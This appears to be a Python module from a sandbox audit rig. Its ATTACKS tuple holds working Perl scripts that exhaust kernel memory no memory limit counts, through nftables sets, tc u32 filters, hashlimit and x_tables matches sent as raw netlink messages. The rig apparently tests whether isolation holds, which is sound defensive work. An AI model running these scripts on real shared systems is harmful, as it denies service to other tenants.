"""Kernel memory that no memory limit counts: sets and rules of nftables, and filters of tc."""

from rigs.audit.uncharged_memory import ENOUGH, NETLINK, held_in_the_kernel
from rigs.audit.walls import EXTENSIONS, OLD_TABLES, WHOLE_LISTS, without

ATTACKS = (
    held_in_the_kernel(
        "M25",
        "elements that packets add to a set of nftables",
        f"""
use Socket;
open(my $rules, "|-", "ip link set lo up; nft -f -");
print $rules "table ip t {{ set s {{ type ipv4_addr . inet_service; flags dynamic; size 9000000; }}\n";
print $rules "chain c {{ type filter hook output priority 0; add \\@s {{ ip daddr . udp dport }}; }}\n}}\n";
close $rules;
socket(my $out, AF_INET, SOCK_DGRAM, 0);
FLOOD: for my $host (1 .. 40) {{
    for my $port (1 .. 60000) {{
        send($out, "x", 0, sockaddr_in($port, pack("C4", 127, 0, 1, $host)));
        last FLOOD if ($held += 100) > {ENOUGH} << 20;
    }}
}}
""",
    ),
    held_in_the_kernel(
        "M32",
        "hash tables of tc filters (u32), full on each of many interfaces",
        """
open(my $batch, "|-", "ip -batch -");
print $batch "link add x$_ type veth peer name y$_\n" for 1 .. 12;
close $batch;
for my $name (map { ("x$_", "y$_") } 1 .. 12) {
    open(my $filters, "|-", "tc -force -batch - 2>/dev/null");
    print $filters "qdisc add dev $name ingress\n";
    printf $filters "filter add dev $name ingress prio 1 handle %x: protocol ip u32 divisor 256\n", $_ for 1 .. 2040;
    close $filters;
    $held += 2040 * 3500;
}
""",
    ),
    held_in_the_kernel(
        "M46",
        "sets of nftables without an element, with room for 65,535 each",
        r"""
open(my $rules, "|-", "nft -f -");
print $rules "add table ip t\n";
print $rules "add set ip t s$_ { type ipv4_addr; flags dynamic; size 65535; }\n" for 1 .. 60;
close $rules or exit;
$held = 120 << 20;
""",
    ),
    held_in_the_kernel(
        "M51",
        "hash tables of tc filters behind a filter that fits into no message, where the kernel ends its list",
        NETLINK
        + r"""
my $code = pack("SCCL", 6, 0, 0, 0) x 4090;
open(my $batch, "|-", "ip -batch -");
print $batch "link add x$_ type veth peer name y$_\n" for 1 .. 12;
close $batch;
for my $name (map { ("x$_", "y$_") } 1 .. 12) {
    system("tc qdisc add dev $name ingress");
    my ($index) = `ip -o link show $name` =~ /^(\d+)/;
    answered(netlink(0), message(44, 0x605, pack("CCSlLLL", 0, 0, 0, $index, 0, 0xffff0000, (1 << 16) | 8)
        . attribute(1, "bpf\0") . attribute(2, attribute(4, pack("S", 4090)) . attribute(5, $code) . attribute(3, pack("L", 1)))))
        or exit;
    open(my $filters, "|-", "tc -force -batch - 2>/dev/null");
    printf $filters "filter add dev $name ingress prio 2 handle %x: protocol ip u32 divisor 256\n", $_ for 1 .. 2040;
    close $filters;
    $held += 2040 * 3500;
}
""",
        control=WHOLE_LISTS,
    ),
    held_in_the_kernel(
        "M54",
        "tables of hashlimit, which needs no iptables but a message",
        NETLINK
        + r"""
system("nft add table ip t; nft 'add chain ip t c { type filter hook output priority 0; }'");
my $socket = netlink(12);
for my $number (1 .. 12) {
    my $told = pack("a255x", "h$number") . pack("QQLLLLLLCCx6", 1000, 5, 1, 1 << 20, 1e6, 1e6, 1e6, 1000, 32, 32) . pack("Q", 0);
    my $match = attribute(1, "hashlimit\0") . attribute(2, pack("N", 3)) . attribute(3, $told);
    my $rule = attribute(4 | 0x8000, attribute(1 | 0x8000, attribute(1, "match\0") . attribute(2 | 0x8000, $match)));
    send($socket, message(0x10, 1, pack("CCn", 0, 0, 10))
        . message(0xa06, 0xc05, pack("CCn", 2, 0, 0) . attribute(1, "t\0") . attribute(2, "c\0") . $rule)
        . message(0x11, 1, pack("CCn", 0, 0, 10)), 0);
    recv($socket, my $answer, 65536, 0);
    unpack("x16l", $answer) == 0 or last;
    $held += 10 << 20;
}
""",
        control=OLD_TABLES,
    ),
    held_in_the_kernel(
        "M64",
        "extensions of x_tables in rules of nftables (match string)",
        NETLINK
        + r"""
my ($socket, $refused) = (netlink(12));
sub rules { pack("CCn", $_[0], 0, $_[1]) . $_[2] }
sub batch { send($socket, join("", message(16, 1, rules(0, 10, "")), @_, message(17, 1, rules(0, 10, ""))), 0) }
my $table = attribute(1, "t\0");
batch(message(0x0a00, 0x401, rules(2, 0, $table)), message(0x0a03, 0x401, rules(2, 0, $table . attribute(3, "c\0"))));
my $info = pack("SSa16a128CC", 0, 65535, "bm", "A" x 128, 128, 0) . "\0" x 10;
my $string = attribute(1, "string\0") . attribute(2, pack("N", 1)) . attribute(3, $info);
my $match = attribute(0x8001, attribute(1, "match\0") . attribute(0x8002, $string));
my $rule = $table . attribute(2, "c\0") . attribute(0x8004, $match x 10);
for (1 .. 400) {
    batch(map { message(0x0a06, 0xc01, rules(2, 0, $rule)) } 1 .. 40) or last;
    while (defined recv($socket, my $answer, 65536, 0x40)) {
        $refused++ if unpack("x4S", $answer) == 2 && unpack("x16l", $answer);
    }
    last if $refused or ($held += 400 * 2048) > 80 << 20;
}
""",
        wall="the guard takes a node with such an extension for a full one",
        control=EXTENSIONS,
        behind=(without("NFT_COMPAT", "extensions of x_tables in nftables"),),
    ),
)
